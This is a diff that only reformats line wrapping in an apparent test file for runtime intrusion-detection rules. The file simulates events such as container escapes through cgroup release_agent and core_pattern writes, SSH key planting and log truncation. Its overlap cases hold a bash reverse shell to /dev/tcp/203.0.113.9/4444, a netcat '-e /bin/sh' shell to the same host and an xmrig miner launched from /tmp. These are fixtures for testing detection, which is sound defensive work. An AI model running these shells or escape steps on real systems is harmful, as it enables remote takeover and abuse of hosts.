@@ -206,8 +206,12 @@ CASES: list[RuleCase] = [
     RuleCase(
         "Log File Truncated",
         opened("/var/log/auth.log", O_WRONLY | O_TRUNC, program="bash", args=()),
-        opened("/var/log/auth.log", O_WRONLY | O_TRUNC, program="logrotate",
-               args=("/etc/logrotate.conf",)),
+        opened(
+            "/var/log/auth.log",
+            O_WRONLY | O_TRUNC,
+            program="logrotate",
+            args=("/etc/logrotate.conf",),
+        ),
     ),
     RuleCase(
         "Log File Deleted",
@@ -246,17 +250,29 @@ CASES: list[RuleCase] = [
     ),
     RuleCase(
         "Kernel Core Pattern Written",
-        opened("/proc/sys/kernel/core_pattern", O_WRONLY, program="sh", args=(),
-               container=IN_CONTAINER),
-        opened("/proc/sys/kernel/core_pattern", O_RDONLY, program="sh", args=(),
-               container=IN_CONTAINER),
+        opened(
+            "/proc/sys/kernel/core_pattern", O_WRONLY, program="sh", args=(), container=IN_CONTAINER
+        ),
+        opened(
+            "/proc/sys/kernel/core_pattern", O_RDONLY, program="sh", args=(), container=IN_CONTAINER
+        ),
     ),
     RuleCase(
         "Cgroup Release Agent Written",
-        opened("/sys/fs/cgroup/rdma/release_agent", O_WRONLY, program="sh", args=(),
-               container=IN_CONTAINER),
-        opened("/sys/fs/cgroup/rdma/notify_on_release", O_WRONLY, program="sh", args=(),
-               container=IN_CONTAINER),
+        opened(
+            "/sys/fs/cgroup/rdma/release_agent",
+            O_WRONLY,
+            program="sh",
+            args=(),
+            container=IN_CONTAINER,
+        ),
+        opened(
+            "/sys/fs/cgroup/rdma/notify_on_release",
+            O_WRONLY,
+            program="sh",
+            args=(),
+            container=IN_CONTAINER,
+        ),
     ),
     # --- processes
     RuleCase(
@@ -326,8 +342,11 @@ CASES: list[RuleCase] = [
     ),
     RuleCase(
         "Namespace Unshared In Container",
-        acting("unshare", lambda s, p: s.unshare(p, CLONE_NEWNS | CLONE_NEWUSER),
-               container=IN_CONTAINER),
+        acting(
+            "unshare",
+            lambda s, p: s.unshare(p, CLONE_NEWNS | CLONE_NEWUSER),
+            container=IN_CONTAINER,
+        ),
         acting("unshare", lambda s, p: s.unshare(p, CLONE_NEWNS | CLONE_NEWUSER)),
     ),
     RuleCase(
@@ -393,8 +412,9 @@ CASES: list[RuleCase] = [
     ),
     RuleCase(
         "File System Mounted In Container",
-        acting("mount", lambda s, p: s.mount(p, "/dev/sda1", "/mnt", "ext4"),
-               container=IN_CONTAINER),
+        acting(
+            "mount", lambda s, p: s.mount(p, "/dev/sda1", "/mnt", "ext4"), container=IN_CONTAINER
+        ),
         acting("mount", lambda s, p: s.mount(p, "/dev/sda1", "/mnt", "ext4")),
     ),
     RuleCase(
@@ -435,8 +455,9 @@ CASES: list[RuleCase] = [
     ),
     RuleCase(
         "Container Runtime Socket Contacted From Container",
-        acting("curl", lambda s, p: s.connect_unix(p, "/var/run/docker.sock"),
-               container=IN_CONTAINER),
+        acting(
+            "curl", lambda s, p: s.connect_unix(p, "/var/run/docker.sock"), container=IN_CONTAINER
+        ),
         acting("curl", lambda s, p: s.connect_unix(p, "/var/run/docker.sock")),
     ),
 ]
@@ -474,31 +495,66 @@ class Overlap:
 
 
 OVERLAPS: list[Overlap] = [
-    Overlap("Dynamic Linker Preload Modified", "File Written Below Etc",
-            CASES_BY_RULE["Dynamic Linker Preload Modified"].fire),
-    Overlap("Account Database Modified Directly", "File Written Below Etc",
-            CASES_BY_RULE["Account Database Modified Directly"].fire),
-    Overlap("Scheduled Job Modified", "File Written Below Etc",
-            CASES_BY_RULE["Scheduled Job Modified"].fire),
-    Overlap("Service Unit Written", "File Written Below Etc",
-            CASES_BY_RULE["Service Unit Written"].fire),
-    Overlap("Shell Startup File Modified", "File Written Below Etc",
-            opened("/etc/profile", APPEND)),
-    Overlap("Shell Startup File Modified", "File Written Below Root Or Root Home",
-            CASES_BY_RULE["Shell Startup File Modified"].fire),
-    Overlap("SSH Authorized Keys Modified", "File Written Below Root Or Root Home",
-            opened("/root/.ssh/authorized_keys", APPEND, program="bash", args=())),
-    Overlap("Interactive Terminal Shell In Container", "Shell Started In Container",
-            CASES_BY_RULE["Interactive Terminal Shell In Container"].fire),
-    Overlap("Shell Spawned By Web Server", "Shell Started In Container",
-            started("sh", "-c", "id", parent="nginx", container=IN_CONTAINER)),
-    Overlap("Shell Redirected To Network Device", "Shell Started In Container",
-            started("bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", parent="node",
-                    container=IN_CONTAINER)),
-    Overlap("Netcat Command Execution", "Network Relay Tool Run In Container",
-            started("nc", "-e", "/bin/sh", "203.0.113.9", "4444", parent="sh",
-                    container=IN_CONTAINER)),
-    Overlap("Coin Miner Started", "Program Run From Temporary Directory",
-            started("xmrig", "-o", "pool.example.com:3333", exe="/tmp/xmrig",
-                    filename="/tmp/xmrig")),
+    Overlap(
+        "Dynamic Linker Preload Modified",
+        "File Written Below Etc",
+        CASES_BY_RULE["Dynamic Linker Preload Modified"].fire,
+    ),
+    Overlap(
+        "Account Database Modified Directly",
+        "File Written Below Etc",
+        CASES_BY_RULE["Account Database Modified Directly"].fire,
+    ),
+    Overlap(
+        "Scheduled Job Modified",
+        "File Written Below Etc",
+        CASES_BY_RULE["Scheduled Job Modified"].fire,
+    ),
+    Overlap(
+        "Service Unit Written", "File Written Below Etc", CASES_BY_RULE["Service Unit Written"].fire
+    ),
+    Overlap(
+        "Shell Startup File Modified", "File Written Below Etc", opened("/etc/profile", APPEND)
+    ),
+    Overlap(
+        "Shell Startup File Modified",
+        "File Written Below Root Or Root Home",
+        CASES_BY_RULE["Shell Startup File Modified"].fire,
+    ),
+    Overlap(
+        "SSH Authorized Keys Modified",
+        "File Written Below Root Or Root Home",
+        opened("/root/.ssh/authorized_keys", APPEND, program="bash", args=()),
+    ),
+    Overlap(
+        "Interactive Terminal Shell In Container",
+        "Shell Started In Container",
+        CASES_BY_RULE["Interactive Terminal Shell In Container"].fire,
+    ),
+    Overlap(
+        "Shell Spawned By Web Server",
+        "Shell Started In Container",
+        started("sh", "-c", "id", parent="nginx", container=IN_CONTAINER),
+    ),
+    Overlap(
+        "Shell Redirected To Network Device",
+        "Shell Started In Container",
+        started(
+            "bash",
+            "-c",
+            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+            parent="node",
+            container=IN_CONTAINER,
+        ),
+    ),
+    Overlap(
+        "Netcat Command Execution",
+        "Network Relay Tool Run In Container",
+        started("nc", "-e", "/bin/sh", "203.0.113.9", "4444", parent="sh", container=IN_CONTAINER),
+    ),
+    Overlap(
+        "Coin Miner Started",
+        "Program Run From Temporary Directory",
+        started("xmrig", "-o", "pool.example.com:3333", exe="/tmp/xmrig", filename="/tmp/xmrig"),
+    ),
 ]
